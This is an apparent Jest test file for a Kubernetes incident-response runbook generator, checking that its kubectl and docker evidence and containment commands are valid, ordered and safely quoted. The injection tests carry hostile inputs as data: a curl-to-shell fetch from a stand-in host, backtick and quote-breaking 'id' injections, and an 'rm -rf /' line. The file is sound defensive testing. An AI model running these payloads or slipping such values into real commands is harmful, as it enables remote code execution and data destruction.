import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { CATALOG } from '../detections/catalog';
import { CommandStep, commandArguments } from './commands';
import { parseRunbookContext } from './context';
import { ResponsePlan, StepGroup, responsePlan } from './steps';
import { SubjectKind, runbookSubject, withSubjectKind } from './subject';

const NOW = Date.parse('2025-03-01T12:00:00Z');

function planFor(detectionId: string, values: Record<string, string>, kind?: SubjectKind): ResponsePlan {
  const detection = CATALOG.find((candidate) => candidate.id === detectionId)!;
  const context = parseRunbookContext(new URLSearchParams(values), NOW);
  const inferred = runbookSubject(detection, context);
  const subject = kind ? withSubjectKind(inferred, kind) : inferred;
  return responsePlan(subject, commandArguments(context, subject));
}

function stepsOf(groups: readonly StepGroup[]): CommandStep[] {
  return groups.flatMap((group) => group.steps);
}

function allSteps(plan: ResponsePlan): CommandStep[] {
  return [...stepsOf(plan.evidence), ...stepsOf(plan.contain), ...plan.analyze];
}

function step(plan: ResponsePlan, id: string): CommandStep {
  const found = allSteps(plan).find((candidate) => candidate.id === id);
  if (!found) {
    throw new Error(
      `No step ${id}; the plan has ${allSteps(plan)
        .map((candidate) => candidate.id)
        .join(', ')}.`
    );
  }
  return found;
}

function commandsOf(steps: readonly CommandStep[]): string {
  return steps.map((candidate) => candidate.command ?? '').join('\n');
}

/**
 * Parses a script with `sh -n`, which checks the syntax without running anything. Placeholders
 * such as <binding> stand for words the responder types, so they become plain words first.
 */
function shellSyntaxOk(script: string): boolean {
  const filled = script.replace(/<[a-z][-a-z.]*>/g, 'VALUE');
  try {
    execFileSync('/bin/sh', ['-n', '-c', filled], { stdio: 'pipe' });
    return true;
  } catch {
    return false;
  }
}

/** One alert per subject kind, with valid values, as the alert rules pass them. */
const ALERTS: Array<[string, string, Record<string, string>]> = [
  [
    'pod',
    'k8s-privileged-container',
    { namespace: 'prod', pod: 'web-1', resource: 'pods', name: 'web-1', user: 'system:serviceaccount:ci:deployer' },
  ],
  ['falco pod', 'falco-escape-primitive', { namespace: 'prod', pod: 'web-1', node: 'node-1', container: 'app' }],
  [
    'deployment',
    'k8s-workload-image-changed',
    { namespace: 'prod', resource: 'deployments', name: 'api', user: 'alice' },
  ],
  [
    'daemonset',
    'k8s-security-agent-removed',
    { namespace: 'falco', resource: 'daemonsets', name: 'falco', user: 'alice' },
  ],
  [
    'cronjob',
    'k8s-system-namespace-cronjob',
    { namespace: 'kube-system', resource: 'cronjobs', name: 'x', user: 'alice' },
  ],
  ['binding', 'k8s-cluster-admin-binding', { resource: 'clusterrolebindings', name: 'system:backdoor', user: 'alice' }],
  [
    'rolebinding',
    'k8s-cluster-admin-binding',
    { namespace: 'prod', resource: 'rolebindings', name: 'rb', user: 'alice' },
  ],
  ['clusterrole', 'k8s-cluster-admin-binding', { resource: 'clusterroles', name: 'edit-all', user: 'alice' }],
  [
    'webhook',
    'k8s-admission-webhook-changed',
    { resource: 'mutatingwebhookconfigurations', name: 'inject', user: 'alice' },
  ],
  ['node container', 'container-without-pod', { image: 'alpine:3.20', name: 'miner', node: 'node-2' }],
  [
    'service account',
    'k8s-impersonation-privileged',
    { namespace: 'prod', resource: 'serviceaccounts', name: 'ci', user: 'bob' },
  ],
  ['user', 'k8s-impersonation-privileged', { user: 'alice' }],
  ['secret', 'k8s-impersonation-privileged', { namespace: 'prod', resource: 'secrets', name: 'db', user: 'alice' }],
];

/** kubectl verbs and runtime commands that change or destroy what the alert is about. */
const DISRUPTIVE =
  /\b(kubectl (delete|scale|drain|patch|label|apply|cordon|exec|debug|rollout undo)|docker (stop|rm|pause|kill)|ctr .*task (kill|pause))\b/;

describe('responsePlan', () => {
  test.each(ALERTS)('%s commands are valid shell', (_name, id, values) => {
    for (const candidate of allSteps(planFor(id, values))) {
      if (candidate.command) {
        expect({ id: candidate.id, ok: shellSyntaxOk(candidate.command) }).toEqual({ id: candidate.id, ok: true });
      }
    }
  });

  test.each(ALERTS)('%s evidence changes nothing', (_name, id, values) => {
    for (const candidate of stepsOf(planFor(id, values).evidence)) {
      expect({ id: candidate.id, disruptive: DISRUPTIVE.test(candidate.command ?? '') }).toEqual({
        id: candidate.id,
        disruptive: false,
      });
    }
  });

  test.each(ALERTS)('%s isolates before it stops', (_name, id, values) => {
    const groups = planFor(id, values).contain.map((group) => group.id);
    const isolate = groups.indexOf('contain-isolate');
    const stop = groups.indexOf('contain-stop');
    if (stop >= 0) {
      expect(isolate).toBeGreaterThanOrEqual(0);
      expect(isolate).toBeLessThan(stop);
    }
  });
});

describe('pod plan', () => {
  const values = { namespace: 'prod', pod: 'web-1', container: 'app', node: 'node-1' };
  const plan = planFor('falco-shell-in-container', values);

  test('captures logs, manifest, digests, memory and files in order', () => {
    expect(stepsOf(plan.evidence).map((candidate) => candidate.id)).toEqual([
      'evidence-logs',
      'evidence-previous-logs',
      'evidence-manifest',
      'evidence-digest',
      'evidence-checkpoint',
      'evidence-filesystem',
    ]);
  });

  test('fills in the alert values', () => {
    expect(step(plan, 'evidence-logs').command).toContain(
      "kubectl logs -n 'prod' 'web-1' --all-containers --timestamps"
    );
    expect(step(plan, 'evidence-checkpoint').command).toContain("'https://node-1:10250/checkpoint/prod/web-1/app'");
    expect(step(plan, 'contain-cordon-node').command).toBe("kubectl cordon 'node-1'");
  });

  test('asks for previous logs only of restarted containers', () => {
    const text = commandsOf(allSteps(plan));
    expect(text).not.toContain('--all-containers --timestamps --prefix --previous');
    const previous = step(plan, 'evidence-previous-logs').command!;
    expect(previous).toContain('?(@.restartCount>0)');
    expect(previous).toContain('-c "$c" --previous');
  });

  test('says where the checkpoint lands', () => {
    const checkpoint = step(plan, 'evidence-checkpoint');
    const text = [checkpoint.description, ...(checkpoint.notes ?? [])].join(' ');
    expect(text).toContain('/var/lib/kubelet/checkpoints/');
    expect(text).toContain('ContainerCheckpoint');
    expect(text).toContain('1.25');
    expect(text).toContain('1.30');
  });

  test('copies files from the node without entering the pod', () => {
    const filesystem = step(plan, 'evidence-filesystem');
    expect(filesystem.command).toContain('crictl inspect');
    expect(filesystem.command).toContain('tar --one-file-system -C "/proc/$PID/root"');
    expect(filesystem.command).not.toMatch(/kubectl (exec|debug)/);
    const notes = (filesystem.notes ?? []).join(' ');
    expect(notes).toContain('k8s-ephemeral-container');
    expect(notes).toContain('k8s-exec-attach');
  });

  test('lists policies before the quarantine policy', () => {
    const ids = stepsOf(plan.contain).map((candidate) => candidate.id);
    expect(ids.indexOf('contain-list-policies')).toBeLessThan(ids.indexOf('contain-network-policy'));
    expect(ids.indexOf('contain-network-policy')).toBeLessThan(ids.indexOf('contain-relabel'));
    expect(step(plan, 'contain-list-policies').description).toContain('additive');
  });

  test('applies the NetworkPolicy from a quoted heredoc', () => {
    const policy = step(plan, 'contain-network-policy').command!;
    expect(policy).toContain("-f - <<'EOF'");
    expect(policy).toContain('policyTypes:\n    - Ingress\n    - Egress');
    expect(policy.trimEnd().endsWith('EOF')).toBe(true);
  });

  test('does not claim the policy denies everything', () => {
    const policy = step(plan, 'contain-network-policy');
    const text = [policy.description, ...(policy.notes ?? [])].join(' ');
    expect(text).not.toContain('allows no ingress and no egress');
    expect(text).toContain('established connection');
    expect(text).toContain('hostNetwork');
  });

  test('relabels the pod out of its selectors', () => {
    const relabel = step(plan, 'contain-relabel');
    expect(relabel.command).toContain(
      `kubectl patch pod -n 'prod' 'web-1' --type json -p '[{"op":"add","path":"/metadata/labels","value":{"cordon.io/quarantine":"true"}}]'`
    );
    expect((relabel.notes ?? []).join(' ')).toContain('replacement');
  });

  test('offers a plugin deny rule', () => {
    const deny = step(plan, 'contain-cni-deny');
    expect(deny.command).toContain('kind: CiliumNetworkPolicy');
    expect(deny.command).toContain('egressDeny:');
    expect((deny.notes ?? []).join(' ')).toContain('Calico');
  });

  test('stops last and never drains', () => {
    const groups = plan.contain;
    expect(groups[groups.length - 1].id).toBe('contain-stop');
    expect(commandsOf(allSteps(plan))).not.toContain('kubectl drain');
    expect(commandsOf(groups[groups.length - 1].steps)).toContain("kubectl delete pod -n 'prod' 'web-1'");
  });

  test('looks up the node when the alert has none', () => {
    const digest = step(planFor('k8s-privileged-container', { namespace: 'prod', pod: 'web-1' }), 'evidence-digest');
    expect(digest.command).toContain(`-o jsonpath='{.spec.nodeName}{"\\n"}`);
  });

  test.each(['$(curl evil.example|sh)', '`id`', "web' ; id ; '", 'web\nrm -rf /'])(
    'never carries a crafted name (%j) into a command',
    (value) => {
      const text = commandsOf(
        allSteps(planFor('falco-shell-in-container', { namespace: value, pod: value, container: value, node: value }))
      );
      expect(text).not.toContain(value);
      expect(text).not.toContain('rm -rf');
      expect(text).toContain('kubectl cordon <node>');
    }
  );
});

describe('pod plan jsonpath', () => {
  const kubectl = '/usr/bin/kubectl';
  const runIf = existsSync(kubectl) ? test : test.skip;
  const manifest = {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: 'web-1', namespace: 'prod', labels: { app: 'web' } },
    spec: {
      nodeName: 'node-1',
      containers: [
        { name: 'app', image: 'nginx' },
        { name: 'side', image: 'busybox' },
      ],
    },
    status: {
      containerStatuses: [
        {
          name: 'app',
          restartCount: 2,
          image: 'nginx:1.27',
          imageID: 'nginx@sha256:aaa',
          containerID: 'containerd://0123',
        },
        {
          name: 'side',
          restartCount: 0,
          image: 'busybox',
          imageID: 'busybox@sha256:bbb',
          containerID: 'containerd://4567',
        },
      ],
    },
  };

  /** Runs a jsonpath template on a local manifest; `kubectl label --local` prints it without contacting a cluster. */
  function jsonpath(template: string): string {
    const dir = mkdtempSync(path.join(tmpdir(), 'cordon-jsonpath-'));
    try {
      const file = path.join(dir, 'pod.json');
      writeFileSync(file, JSON.stringify(manifest));
      return execFileSync(kubectl, ['label', '--local', '-f', file, 'x=y', '-o', `jsonpath=${template}`], {
        encoding: 'utf8',
        env: { ...process.env, KUBECONFIG: '/dev/null' },
      });
    } finally {
      rmSync(dir, { recursive: true });
    }
  }

  function templateOf(command: string): string {
    return /-o jsonpath='([^']*)'/.exec(command)![1];
  }

  const plan = planFor('falco-shell-in-container', {
    namespace: 'prod',
    pod: 'web-1',
    container: 'app',
    node: 'node-1',
  });

  runIf('selects restarted containers', () => {
    expect(jsonpath(templateOf(step(plan, 'evidence-previous-logs').command!))).toBe('app ');
  });

  runIf('prints node, digests and container IDs', () => {
    expect(jsonpath(templateOf(step(plan, 'evidence-digest').command!))).toBe(
      'node-1\napp\tnginx:1.27\tnginx@sha256:aaa\tcontainerd://0123\nside\tbusybox\tbusybox@sha256:bbb\tcontainerd://4567\n'
    );
  });

  runIf('prints the container ID', () => {
    expect(jsonpath(templateOf(step(plan, 'evidence-filesystem').command!))).toBe('containerd://0123\n');
  });
});

describe('workload plan', () => {
  test('fills a Deployment by name', () => {
    const plan = planFor('k8s-workload-image-changed', { namespace: 'prod', resource: 'deployments', name: 'api' });
    const stop = step(plan, 'contain-stop-workload').command!;
    expect(stop).toBe("kubectl scale -n 'prod' deployment/api --replicas=0");
    expect(commandsOf(allSteps(plan))).not.toContain('<deployment>');
    expect(plan.summary).toBe('Deployment api in namespace prod');
    expect(step(plan, 'evidence-workload-manifest').command).toContain(
      "kubectl rollout history deployment -n 'prod' 'api'"
    );
  });

  test('lists the pods through the selector', () => {
    const plan = planFor('k8s-workload-image-changed', { namespace: 'prod', resource: 'deployments', name: 'api' });
    expect(step(plan, 'evidence-workload-pods').command).toBe(
      `kubectl get pods -n 'prod' -o wide -l "$(kubectl get deployment -n 'prod' 'api' -o go-template='{{range $k, $v := .spec.selector.matchLabels}}{{$k}}={{$v}},{{end}}' | sed 's/,$//')"`
    );
  });

  test('keeps pods in their selector', () => {
    const plan = planFor('k8s-workload-image-changed', { namespace: 'prod', resource: 'deployments', name: 'api' });
    expect(allSteps(plan).map((candidate) => candidate.id)).not.toContain('contain-relabel');
  });

  test('moves a DaemonSet off every node', () => {
    const plan = planFor('k8s-security-agent-removed', { namespace: 'falco', resource: 'daemonsets', name: 'falco' });
    expect(step(plan, 'contain-stop-workload').command).toBe(
      `kubectl patch daemonset -n 'falco' 'falco' --type merge -p '{"spec":{"template":{"spec":{"nodeSelector":{"cordon.io/quarantine":"no-node"}}}}}'`
    );
  });

  test('suspends a CronJob and lists its Jobs', () => {
    const plan = planFor('k8s-system-namespace-cronjob', { namespace: 'kube-system', resource: 'cronjobs', name: 'x' });
    expect(step(plan, 'contain-stop-workload').command).toBe(
      `kubectl patch cronjob -n 'kube-system' 'x' --type merge -p '{"spec":{"suspend":true}}'`
    );
    expect(step(plan, 'evidence-workload-pods').command).toContain('ownerReferences[0].name=="x"');
  });

  test('offers every kind when the kind is open', () => {
    const plan = planFor('k8s-privileged-container', { namespace: 'prod', name: 'api' }, 'workload');
    const stop = step(plan, 'contain-stop-workload').command!;
    expect(stop).toContain('deployment/<deployment>');
    expect(stop).toContain('patch cronjob');
  });
});

describe('rbac plan', () => {
  test('saves and then deletes a ClusterRoleBinding', () => {
    const plan = planFor('k8s-cluster-admin-binding', { resource: 'clusterrolebindings', name: 'backdoor' });
    expect(step(plan, 'evidence-rbac-object').command).toBe(
      "kubectl get clusterrolebinding 'backdoor' -o yaml > cordon-clusterrolebinding-backdoor.yaml\nkubectl get clusterrolebinding 'backdoor' -o wide"
    );
    expect(step(plan, 'contain-rbac-remove').command).toBe("kubectl delete clusterrolebinding 'backdoor'");
    expect(plan.summary).toBe('ClusterRoleBinding backdoor');
  });

  test('uses the namespace of a RoleBinding', () => {
    const plan = planFor('k8s-cluster-admin-binding', { namespace: 'prod', resource: 'rolebindings', name: 'rb' });
    expect(step(plan, 'contain-rbac-remove').command).toBe("kubectl delete rolebinding -n 'prod' 'rb'");
  });

  test('finds the bindings of a ClusterRole', () => {
    const plan = planFor('k8s-cluster-admin-binding', { resource: 'clusterroles', name: 'system:edit-all' });
    expect(step(plan, 'evidence-rbac-bindings').command).toBe(
      "kubectl get clusterrolebindings,rolebindings -A -o wide | grep -F -- 'ClusterRole/system:edit-all'"
    );
  });

  test('quotes a crafted name', () => {
    const plan = planFor('k8s-cluster-admin-binding', { resource: 'clusterrolebindings', name: "x';id;'" });
    const command = step(plan, 'contain-rbac-remove').command!;
    const script = command.replace('kubectl delete clusterrolebinding', 'printf "[%s]"');
    expect(execFileSync('/bin/sh', ['-c', script], { encoding: 'utf8' })).toBe("[x';id;']");
  });
});

describe('admission plan', () => {
  test('lists what each webhook calls', () => {
    const plan = planFor('k8s-admission-webhook-changed', {
      resource: 'mutatingwebhookconfigurations',
      name: 'inject',
    });
    expect(step(plan, 'evidence-admission-object').command).toContain('.clientConfig.service.name');
    expect(step(plan, 'contain-admission-restore').command).toContain(
      "kubectl delete mutatingwebhookconfiguration 'inject'"
    );
  });
});

describe('node container plan', () => {
  const plan = planFor('container-without-pod', { image: 'alpine:3.20', name: 'miner', node: 'node-2' });

  test('works on the node, not through kubectl', () => {
    const evidence = commandsOf(stepsOf(plan.evidence));
    expect(evidence).toContain("docker export 'miner'");
    expect(evidence).not.toContain('kubectl logs');
    expect(plan.summary).toBe('Container miner (image alpine:3.20) running on node node-2 without a pod');
  });

  test('pauses before it stops', () => {
    expect(step(plan, 'contain-node-pause').command).toContain("docker pause 'miner'");
    expect(step(plan, 'contain-node-stop').command).toContain("docker stop 'miner'");
  });

  test('keeps a crafted image in one word', () => {
    const value = "alpine' ; id ; '";
    const find = step(planFor('container-without-pod', { image: value, name: 'miner' }), 'evidence-node-find').command!;
    const line = find.split('\n').find((candidate) => candidate.includes('ancestor='))!;
    const output = execFileSync('/bin/sh', ['-c', line.replace('docker ps -a --no-trunc --filter', 'printf "[%s]"')], {
      encoding: 'utf8',
    });
    expect(output).toBe(`[ancestor=${value}]`);
  });
});

describe('actor steps', () => {
  test('list bindings without impersonating', () => {
    const plan = planFor('k8s-privileged-container', {
      namespace: 'prod',
      pod: 'web-1',
      user: 'system:serviceaccount:ci:deployer',
    });
    expect(step(plan, 'evidence-actor-bindings').command).toBe(
      "kubectl get clusterrolebindings,rolebindings -A -o wide | grep -F -- 'ci/deployer'"
    );
  });

  test('mark impersonation as one Cordon flags', () => {
    const plan = planFor('k8s-privileged-container', { namespace: 'prod', pod: 'web-1', user: 'alice' });
    const rights = step(plan, 'evidence-actor-rights');
    expect(rights.title).toContain('impersonating');
    expect(rights.description).toContain('k8s-impersonation-privileged');
    expect(rights.command).toBe("kubectl auth can-i --list --as 'alice' -n 'prod'");
  });

  test('revoke service account tokens', () => {
    const plan = planFor('k8s-privileged-container', { user: 'system:serviceaccount:ci:deployer' }, 'pod');
    expect(step(plan, 'contain-actor-revoke').command).toContain(
      "kubectl get secrets -n 'ci' --field-selector type=kubernetes.io/service-account-token"
    );
  });

  test('explain certificates for users', () => {
    const plan = planFor('k8s-impersonation-privileged', { user: 'alice' });
    expect(plan.summary).toBe('User alice');
    expect(step(plan, 'contain-actor-revoke').description).toContain('certificate');
  });

  test.each(['$(curl evil.example|sh)', '`id`', "x' ; id ; '", 'a\nb'])(
    'keep a crafted user (%j) in its quotes',
    (value) => {
      const plan = planFor('k8s-privileged-container', { user: value });
      const script = step(plan, 'evidence-actor-rights').command!.replace(
        'kubectl auth can-i --list --as',
        'printf "[%s]"'
      );
      const output = execFileSync('/bin/sh', ['-c', script.replace('<namespace>', "'<namespace>'")], {
        encoding: 'utf8',
      });
      expect(output).toBe(`[${value}][-n][<namespace>]`);
    }
  );

  test('are left out for Falco alerts', () => {
    const plan = planFor('falco-shell-in-container', { namespace: 'prod', pod: 'web-1', user: 'root' });
    expect(allSteps(plan).map((candidate) => candidate.id)).not.toContain('evidence-actor-rights');
  });
});

describe('object plan', () => {
  test('warns that a saved Secret holds its values', () => {
    const plan = planFor('k8s-impersonation-privileged', { namespace: 'prod', resource: 'secrets', name: 'db' });
    const manifest = step(plan, 'evidence-object-manifest');
    expect(manifest.command).toBe("kubectl get secrets -n 'prod' 'db' -o yaml > cordon-object-db.yaml");
    expect(manifest.description).toContain('Secret values');
  });
});
